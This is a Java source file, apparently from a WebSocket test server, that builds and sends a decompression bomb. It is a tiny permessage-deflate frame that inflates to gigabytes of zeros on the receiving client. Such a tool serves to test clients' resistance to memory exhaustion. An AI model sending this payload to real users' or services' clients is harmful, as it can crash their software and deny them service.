package dev.echosounder.peer;

import java.io.ByteArrayOutputStream;
import java.util.Arrays;
import java.util.List;
import java.util.zip.Deflater;

/**
 * A decompression bomb: one compressed binary message of zeros, a thousandth of what it inflates
 * to. It is one piece of deflated zeros many times over, so that making it costs nothing.
 */
final class Bomb {
  private static final int MEBIBYTE = 1 << 20;
  private static final int TAIL = 4;
  private static final Parameter<Integer> SIZE =
      Parameter.number("mebibytes", 1, 8192, "4096", "what the message inflates to");

  private Bomb() {}

  static Entry entry() {
    return Entry.upgrading(
        "/bomb",
        "/bomb?mebibytes=4096",
        "sends a tiny compressed message that inflates to gigabytes, if compression is agreed on",
        List.of(SIZE),
        call -> new Sending(call.get(SIZE)));
  }

  /** What {@code mebibytes} of zeros are in a message of RFC 7692 §7.2.1. */
  static byte[] deflated(int mebibytes) {
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
    try {
      deflater.setInput(new byte[MEBIBYTE]);
      byte[] piece = new byte[8 * 1024];
      // A full flush forgets what came before: the piece means the same wherever it stands.
      int length = deflater.deflate(piece, 0, piece.length, Deflater.FULL_FLUSH);
      ByteArrayOutputStream all = new ByteArrayOutputStream(length * mebibytes);
      for (int i = 0; i < mebibytes; i++) {
        all.write(piece, 0, length);
      }
      return Arrays.copyOf(all.toByteArray(), all.size() - TAIL);
    } finally {
      deflater.end();
    }
  }

  private record Sending(int mebibytes) implements Script {
    @Override
    public void onOpen(Session session) {
      if (session.compresses()) {
        session.send(new Frame(true, Frame.RSV1, Frame.BINARY, deflated(mebibytes)));
      }
    }
  }
}
